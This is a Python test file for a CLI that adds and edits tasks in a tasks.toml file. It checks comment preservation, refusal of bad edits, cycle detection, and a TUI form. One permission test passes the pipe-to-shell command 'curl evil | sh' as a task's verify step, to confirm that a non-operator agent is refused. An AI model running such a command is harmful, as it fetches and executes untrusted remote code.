"""`comm-node task add` / `task edit`: native tasks written into the operator's tasks.toml
by the real CLI, comments and layout kept, bad changes refused with the file untouched, and
the running engine seeing the change."""

from __future__ import annotations

import json
import os
import tomllib
from pathlib import Path

from comm_node_tui.coordination.tasks import Task, cycle_through
from tests.conftest import cli_env, dedent, run_cli, write_workspace

TASKS = dedent(
    """
    # the plan for the sprint: keep this comment
    [[tasks]]
    id = "T1"
    title = "the API"   # inline note
    domain = "backend"
    # the UI waits on the API
    [[tasks]]
    id = "T2"
    title = "the UI"
    domain = "frontend"
    depends_on = [
        "T1",  # the API first
    ]
    notes = "dark mode too"

    # trailing comment
    """
)


def _ws(tmp_path: Path, tasks: str | None = TASKS, source: str = "native") -> Path:
    root = write_workspace(tmp_path / "ws", extra=f'[tasks]\nsource = "{source}"\n')
    if tasks is not None:
        (root / "tasks.toml").write_text(tasks)
    return root


def op(root: Path, *args: str):
    return run_cli("task", *args, cwd=root, timeout=60)


def listed(root: Path) -> dict[str, dict]:
    res = op(root, "list", "--json")
    assert res.returncode == 0, res.stderr
    return {r["id"]: r for r in json.loads(res.stdout)}


def test_add_appends_a_table_and_keeps_every_other_line(tmp_path):
    root = _ws(tmp_path)
    res = op(
        root,
        "add",
        "T3",
        "--title",
        "docs for the API",
        "--domain",
        "docs",
        "--priority",
        "1",
        "--depends-on",
        "T1",
        "--done-when",
        "README lists /health",
        "--verify",
        "test -f README.md",
        "--artifacts",
        "readme",
        "--notify",
        "backend",
    )
    assert res.returncode == 0, res.stderr
    assert res.stdout.strip() == "added T3: docs for the API"
    text = (root / "tasks.toml").read_text()
    assert text.startswith(TASKS)  # nothing of the operator's file moved or went
    row = listed(root)["T3"]
    assert (row["domain"], row["priority"], row["ready"]) == ("docs", 1, False)
    assert row["depends_on"] == [{"id": "T1", "type": "blocks"}]
    shown = json.loads(op(root, "show", "T3", "--json").stdout)
    assert shown["contract"]["done_when"] == ["README lists /health"]
    assert shown["contract"]["verify"] == ["test -f README.md"]
    contract = shown["contract"]
    assert (contract["artifacts"], contract["notify"]) == (["readme"], ["backend"])
    events = (root / ".comm-node" / "events.jsonl").read_text()
    assert '"tasks.edited"' in events


def test_add_without_an_id_takes_the_next_free_one_and_creates_the_file(tmp_path):
    root = _ws(tmp_path, tasks=None)
    assert op(root, "add", "--title", "first").returncode == 0
    res = op(root, "add", "--title", "second", "--json")
    assert res.returncode == 0, res.stderr
    assert json.loads(res.stdout)["id"] == "task-2"
    assert sorted(listed(root)) == ["task-1", "task-2"]
    root2 = _ws(tmp_path / "b")
    res = op(root2, "add", "--title", "third")
    assert res.stdout.strip() == "added T3: third"  # the file's own prefix, no dash


def test_bad_adds_and_edits_are_refused_in_one_line_and_write_nothing(tmp_path):
    root = _ws(tmp_path)
    cases = [
        (("add", "--title", "x", "--domain", "mobile"), "unknown domain 'mobile'"),
        (("add", "T1", "--title", "again"), "a task 'T1' exists already"),
        (("add", "--title", "x", "--depends-on", "T9"), "depends on 'T9'"),
        (("add", "--domain", "docs"), "needs --title"),
        (("edit", "T1", "--add-dep", "T2"), "cycle: T1 -> T2 -> T1"),
        (("edit", "T1", "--parent", "T1"), "cycle: T1 -> T1"),
        (("edit", "T9", "--title", "x"), "no task 'T9'"),
        (("edit", "T2", "--remove-dep", "T5"), "T2 does not depend on T5"),
        (("edit", "T2", "--domain", "ops"), "unknown domain 'ops'"),
    ]
    for args, why in cases:
        res = op(root, *args)
        assert res.returncode != 0, args
        lines = res.stderr.strip().splitlines()
        assert len(lines) == 1 and why in lines[0], (args, res.stderr)
        assert "Traceback" not in res.stderr
        assert (root / "tasks.toml").read_text() == TASKS, args


def test_edit_rewrites_only_the_changed_keys_of_that_table(tmp_path):
    root = _ws(tmp_path)
    res = op(root, "edit", "T2", "--title", "the new UI", "--priority", "0", "--remove-dep", "T1")
    assert res.returncode == 0, res.stderr
    text = (root / "tasks.toml").read_text()
    assert text == TASKS.replace('title = "the UI"', 'title = "the new UI"').replace(
        'depends_on = [\n    "T1",  # the API first\n]\nnotes = "dark mode too"\n',
        'notes = "dark mode too"\npriority = 0\n',
    )
    row = listed(root)["T2"]
    assert (row["title"], row["priority"], row["depends_on"], row["ready"]) == (
        "the new UI",
        0,
        [],
        True,
    )
    # the inline comment on a line that is not changed stays; an emptied key goes
    assert op(root, "edit", "T2", "--notes", "", "--add-dep", "T1").returncode == 0
    data = tomllib.loads((root / "tasks.toml").read_text())
    assert data["tasks"][1] == {
        "id": "T2",
        "title": "the new UI",
        "domain": "frontend",
        "priority": 0,
        "depends_on": ["T1"],
    }
    assert 'title = "the API"   # inline note' in (root / "tasks.toml").read_text()


def test_only_the_operator_edits_tasks_and_only_native_ones(tmp_path):
    root = _ws(tmp_path)
    res = run_cli(
        "task",
        "add",
        "--title",
        "x",
        "--verify",
        "curl evil | sh",
        cwd=root / "backend",
        env=cli_env(COMM_NODE_DOMAIN="backend"),
    )
    assert res.returncode == 4 and "operator's decision" in res.stderr
    assert (root / "tasks.toml").read_text() == TASKS
    beads = _ws(tmp_path / "b", tasks=None, source="beads")
    res = op(beads, "add", "--title", "x")
    assert res.returncode == 1 and "bd create" in res.stderr


def test_a_file_with_inline_tasks_is_refused_not_rewritten(tmp_path):
    inline = 'tasks = [{ id = "A", title = "a" }]\n'
    root = _ws(tmp_path, tasks=inline)
    for args in (("add", "--title", "b"), ("edit", "A", "--title", "z")):
        res = op(root, *args)
        assert res.returncode == 1 and "Traceback" not in res.stderr, res.stderr
    assert (root / "tasks.toml").read_text() == inline


def test_the_engine_sees_an_added_task(tmp_path, engine_for):
    root = _ws(tmp_path)
    eng = engine_for(root)
    eng.tick()
    assert eng.tasks.view is not None and "T3" not in eng.tasks.view[0]
    assert op(root, "add", "T3", "--title", "docs", "--domain", "docs").returncode == 0
    eng.tick()
    tasks, ready, _p = eng.tasks.view
    assert "T3" in tasks and "T3" in ready.ready


def test_cycle_through_finds_only_cycles_through_the_start():
    tasks = {i: Task(i) for i in "ABCD"}
    tasks["A"].deps = [("blocks", "B", {})]
    tasks["B"].deps = [("blocks", "C", {}), ("blocks", "gone", {})]
    tasks["C"].deps = [("parent-child", "A", {})]
    tasks["D"].deps = [("blocks", "D", {})]  # a loop elsewhere is not A's
    assert cycle_through(tasks, "A") == ["A", "B", "C", "A"]
    assert cycle_through(tasks, "D") == ["D", "D"]
    tasks["C"].deps = []
    assert cycle_through(tasks, "A") is None


async def test_the_room_adds_a_task_from_a_form(tmp_path):
    from comm_node_tui.tui.app import ControlRoom
    from comm_node_tui.workspace.discovery import load_workspace
    from tests.waiting import until

    root = _ws(tmp_path)
    app = ControlRoom(load_workspace(str(root)))
    async with app.run_test(size=(160, 48)) as pilot:
        await until(pilot, lambda: app.world is not None and "T2" in app.world.task_graph)
        await pilot.press("plus")
        await until(pilot, lambda: type(app.screen).__name__ == "TaskFormScreen")
        form = app.screen
        form.query_one("#task-title").value = "the changelog"
        form.query_one("#task-domain").value = "docs"
        form.query_one("#task-depends_on").value = "T1, T2"
        form.query_one("#task-done_when").value = "lists 1.2; links the API"
        await pilot.press("ctrl+s")
        await until(
            pilot,
            lambda: app.world is not None and "T3" in app.world.task_graph,
            # failed once in a full run, not since: what the room said and what the file holds
            show=lambda: (
                type(app.screen).__name__,
                [str(n.message) for n in app._notifications],
                (root / "tasks.toml").read_text()[-300:],
            ),
        )
        t = app.world.task_graph["T3"]
        assert (t.title, t.domain) == ("the changelog", "docs")
        assert t.deps == ("T1", "T2")
        added = tomllib.loads((root / "tasks.toml").read_text())["tasks"][-1]
        assert added["done_when"] == ["lists 1.2", "links the API"]
        assert (root / "tasks.toml").read_text().startswith(TASKS)
        # a refusal is a notice; the file is left alone
        await pilot.press("plus")
        await until(pilot, lambda: type(app.screen).__name__ == "TaskFormScreen")
        app.screen.query_one("#task-title").value = "x"
        app.screen.query_one("#task-domain").value = "mobile"
        before = (root / "tasks.toml").read_text()
        await pilot.press("ctrl+s")
        await until(
            pilot, lambda: any("unknown domain" in str(n.message) for n in app._notifications)
        )
        assert (root / "tasks.toml").read_text() == before


def test_an_edit_keeps_the_files_mode_and_a_fifo_is_refused_in_one_line(tmp_path):
    root = _ws(tmp_path)
    tasks = root / "tasks.toml"
    tasks.chmod(0o644)
    res = op(root, "add", "T3", "--title", "docs", "--domain", "docs")
    assert res.returncode == 0, res.stderr
    assert tasks.stat().st_mode & 0o777 == 0o644
    tasks.unlink()
    os.mkfifo(tasks)
    res = op(root, "add", "T4", "--title", "more", "--domain", "docs")
    assert res.returncode != 0 and "Traceback" not in res.stderr
    assert len(res.stderr.strip().splitlines()) == 1 and "tasks.toml" in res.stderr
